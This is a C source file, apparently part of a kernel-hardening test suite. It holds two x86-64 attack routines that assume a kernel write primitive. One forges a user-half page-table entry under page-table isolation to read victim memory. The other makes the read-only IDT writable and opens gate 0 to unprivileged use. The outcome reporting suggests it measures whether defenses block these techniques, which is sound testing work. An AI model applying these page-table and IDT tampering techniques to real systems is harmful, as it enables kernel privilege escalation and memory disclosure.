// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on tables that exist for page-table isolation and for CPU entry. */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"

#ifdef __x86_64__
#define CPU_ENTRY_AREA	0xfffffe0000000000UL	/* read-only IDT comes first */
#define GATE_TYPE	5			/* byte of gate 0 */
#define GATE_DPL3	0x60

/* Its own entry in the user half alone: unseen by every walk of the other. */
enum outcome pgd_user_half(void)
{
	uint64_t addr = top_level_size() * (top_level() == LEVEL_PGD ? 1 : 100);
	uint64_t phys = victim_phys();
	struct slot slot;
	char text[64];
	int err;

	if (!cpu_has("pti"))
		return skipped("page-table isolation is off");
	if (kwalk_user_half(addr, LEVEL_PGD, &slot) || slot.value)
		return broken("no empty entry in the user half");
	err = kwrite64(slot.slot, forge_tables((phys & ~(PAGE_SIZE - 1)) | PTE_USER_RW));
	if (err)
		return judge_secret("", err);
	snprintf(text, sizeof(text), "%s", (char *)addr + phys % PAGE_SIZE);
	kwrite64(slot.slot, 0);
	return judge_secret(text, err);
}

static sigjmp_buf after_signal;
static volatile int signal_seen;

static void note_signal(int number)
{
	signal_seen = number;
	siglongjmp(after_signal, 1);
}

/* SIGSEGV while gate 0 is the kernel's alone, SIGFPE once users may use it. */
static int use_gate_0(void)
{
	signal(SIGSEGV, note_signal);
	signal(SIGFPE, note_signal);
	if (!sigsetjmp(after_signal, 1))
		asm volatile("int $0");
	return signal_seen;
}

enum outcome cpu_entry_area(void)
{
	uint64_t gate = CPU_ENTRY_AREA + GATE_TYPE;
	unsigned char old, new;
	struct slot slot;
	int before = use_gate_0(), after, err;

	if (kwalk(CPU_ENTRY_AREA, LEVEL_PTE, 0, &slot) || slot.value & PTE_RW)
		return broken("no read-only IDT found");
	err = kwrite64(slot.slot, slot.value | PTE_RW);
	if (err)
		return lost("the write bit was refused: %d", err);
	kread(gate, &old, 1);
	new = old | GATE_DPL3;
	err = kwrite(gate, &new, 1);
	after = use_gate_0();
	if (!err)
		kwrite(gate, &old, 1);
	kwrite64(slot.slot, slot.value);
	if (before != SIGSEGV || after != SIGFPE)
		return lost("int $0 still raises signal %d (store %d)", after, err);
	return won("IDT changed through its read-only mapping: int $0 by uid %d reached the kernel's gate (SIGFPE, before: SIGSEGV)",
		   getuid());
}
#else
static enum outcome only_x86(void)
{
	return skipped("there is no such table on this architecture");
}

enum outcome pgd_user_half(void)
{
	return only_x86();
}

enum outcome cpu_entry_area(void)
{
	return only_x86();
}
#endif
